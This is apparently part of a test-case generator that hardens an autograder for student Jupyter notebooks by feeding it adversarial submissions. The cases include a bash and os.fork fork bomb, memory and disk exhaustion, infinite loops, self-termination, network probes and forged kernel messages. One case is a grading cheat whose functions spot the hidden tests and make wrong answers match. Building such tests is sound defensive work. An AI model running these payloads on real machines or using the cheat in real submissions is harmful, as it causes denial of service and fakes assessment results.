    def fork_bomb(m: Materials, course: Path, d: Path) -> NotebookNode:
        marker = process_marker(course) + "-forkbomb"
        return append(
            m.reference(),
            "import subprocess, os, time\n"
            f"subprocess.Popen(['/bin/bash', '-c', 'b() {{ b | b & }}; b', {marker!r}])\n"
            "for _ in range(200):\n"
            "    try:\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(600); os._exit(0)\n"
            "    except OSError:\n"
            "        pass\n"
            "time.sleep(3)\n"
            "print('still alive')\n",
        )

    nb_case(
        "execution_count_string",
        "Reference solution whose kernel reports execution counts that are not integers.",
        lambda m, c, d: prepend(
            m.reference(),
            "_k = get_ipython().kernel\n"
            "_parent = _k.get_parent('shell')\n"
            "_k.session.send(_k.iopub_socket, 'execute_result', {'data': {'text/plain': 'forged'}, 'metadata': {},\n"
            "                'execution_count': 'not a number'}, parent=_parent)\n"
            "_k.session.send(_k.iopub_socket, 'execute_input', {'code': '', 'execution_count': 'not a number'},\n"
            "                parent=_parent)\n",
        ),
        full,
    )
    nb_case("fork_bomb", "Reference solution + a fork bomb (bash and os.fork) after the last cell.", fork_bomb, full)
    nb_case(
        "memory_12gb",
        "Reference solution + a 12 GB allocation right after the first test cell.",
        lambda m, c, d: insert_after_first_test(
            m.reference(), "import numpy as np\nhog = np.ones(12 * 2**30 // 8)\nprint(hog.sum())"
        ),
        first,
    )
    nb_case(
        "print_50mb",
        "Reference solution + a 50 MB print after the last cell.",
        lambda m, c, d: append(m.reference(), "print('x' * 50_000_000)"),
        full,
    )
    nb_case(
        "print_forever",
        "An endless print loop.",
        lambda m, c, d: append(m.blank(), "while True:\n    print('spam ' * 200)"),
    )
    nb_case(
        "infinite_loop",
        "Reference solution + 'while True: pass' right after the first test cell.",
        lambda m, c, d: insert_after_first_test(m.reference(), "while True:\n    pass"),
        first,
    )
    nb_case(
        "os_exit",
        "Reference solution + os._exit(0) right after the first test cell.",
        lambda m, c, d: insert_after_first_test(m.reference(), "import os\nos._exit(0)"),
        first,
    )
    nb_case(
        "kill_self",
        "Reference solution + os.kill(os.getpid(), 9) right after the first test cell.",
        lambda m, c, d: insert_after_first_test(m.reference(), "import os\nos.kill(os.getpid(), 9)"),
        first,
    )
    nb_case(
        "sleep_when_called",
        "Every function sleeps forever when the grader calls it.",
        lambda m, c, d: append(
            m.blank(), redefine_functions(m, "    while True:\n        time.sleep(1)\n", "import time\n")
        ),
    )
    nb_case(
        "huge_return",
        "Every function returns a 2 GB array.",
        lambda m, c, d: append(
            m.blank(), redefine_functions(m, "    return np.zeros(2**28)\n", "import numpy as np\n")
        ),
    )
    nb_case(
        "nested_return",
        "Every function returns lists nested 100000 deep, or 10^6 tiny lists.",
        lambda m, c, d: append(
            m.blank(),
            redefine_functions(
                m,
                "    global _n\n    _n += 1\n    if _n % 2:\n        x = []\n        for _ in range(100000):\n"
                "            x = [x]\n        return x\n    return [[0]] * 1_000_000\n",
                "_n = 0\n",
            ),
        ),
    )
    nb_case(
        "disk_fill",
        f"Tries to allocate {DISK_ATTEMPT_MB} MB of files in the sandbox's work directory.",
        lambda m, c, d: append(
            m.blank(),
            "import os\n"
            "total = 0\n"
            f"for i in range({DISK_ATTEMPT_MB} // 250):\n"
            "    try:\n"
            "        fd = os.open(f'fill{i}.bin', os.O_CREAT | os.O_WRONLY)\n"
            "        os.posix_fallocate(fd, 0, 250 * 2**20)\n"
            "        os.close(fd)\n"
            "        total += 250\n"
            "    except OSError as e:\n"
            "        print('stopped:', e)\n"
            "        break\n"
            f"print('{DISK_PREFIX}' + str(total))\n",
        ),
    )
    nb_case(
        "network",
        "Tries to reach the network, the host's loopback and the grader's sockets.",
        lambda m, c, d: append(
            m.blank(),
            "import socket, glob, os\n"
            "for host, port in [('1.1.1.1', 53), ('8.8.8.8', 443), ('127.0.0.1', 22), ('127.0.0.1', 8888),\n"
            "                   ('pypi.org', 443)]:\n"
            "    try:\n"
            "        socket.create_connection((host, port), timeout=1).close()\n"
            "        print('MLPHYS_NET_OPEN', host, port)\n"
            "    except Exception as e:\n"
            "        print('blocked', host, port, type(e).__name__)\n"
            "print(glob.glob('/tmp/*/*'), glob.glob('/run/*'))\n",
        ),
    )
    nb_case(
        "unicode_and_control_output",
        "Output full of control characters, lone surrogates and ANSI escapes.",
        lambda m, c, d: append(
            m.blank(),
            "import sys\nprint('\\x00\\x1b[2J\\x1b]0;pwn\\x07' * 1000)\nsys.stdout.write('\\udcff\\ud800')\n"
            "from IPython.display import publish_display_data\n"
            "publish_display_data({'text/x-mlphys-result': {'ok': True}, 'application/json': {'a': [1] * 10}})\n",
        ),
    )
    # ---------------------------------------------------------------- hidden tests that trust student code
    # Where a hidden test computes its reference with one of the student's own functions (here: the
    # activation passed to apply_layer/apply_net), that function can notice the context and agree with a
    # wrong answer.  The activations stay right for their own tests (which run first).
    if {"apply_layer", "apply_net", "sigmoid", "relu", "linear"} <= set(funcs):
        cheat_ids = {}
        src = materials.source()
        for cell in src.cells:
            if is_solution_cell(cell):
                for name in ("apply_layer", "apply_net"):
                    if f"def {name}(" in cell.source:
                        cheat_ids[name] = _meta(cell)["grade_id"]
        lost = 0.0
        for cell in src.cells:
            hidden_part = split_test_source(cell.source)[1] if is_test_cell(cell) else ""
            if "apply_layer(" in hidden_part or "apply_net(" in hidden_part:
                lost += float(_meta(cell).get("points", 0))
        wrap = (
            "import numpy as np\n"
            "_cheat = [False]\n"
            "def _wrap(f):\n"
            "    def g(z, *a, **k):\n"
            "        return np.zeros(np.shape(z)) if _cheat[0] else f(z, *a, **k)\n"
            "    return g\n"
            "sigmoid, relu, linear = _wrap(sigmoid), _wrap(relu), _wrap(linear)\n"
            "def apply_layer(y, w, b, act):\n"
            "    _cheat[0] = True\n"
            "    return np.zeros((np.shape(y)[0], np.shape(w)[1]))\n"
        )
        net = (
            "def apply_net(y, weights, biases, activations):\n"
            "    _cheat[0] = True\n"
            "    return np.zeros((np.shape(y)[0], np.shape(weights[-1])[1]))\n"
        )
        if len(cheat_ids) == 2 and cheat_ids["apply_layer"] != cheat_ids["apply_net"]:
            nb_case(
                "stateful_activation_reference",
                "apply_layer/apply_net return zeros and, once called, switch the student's activations to "
                "zeros too: hidden tests that build their reference from the student's activation agree.",
                lambda m, c, d: m.with_solutions({cheat_ids["apply_layer"]: wrap, cheat_ids["apply_net"]: net}),
                full - lost,
            )
    return out


__all__ = [
    "DISK_PREFIX",
    "GRADEBOOK_CANARY_TABLE",
    "PWNED_PREFIX",
    "cases",
    "course_token",
    "process_marker",
    "pwned_name",
    "solution_function_names",
]
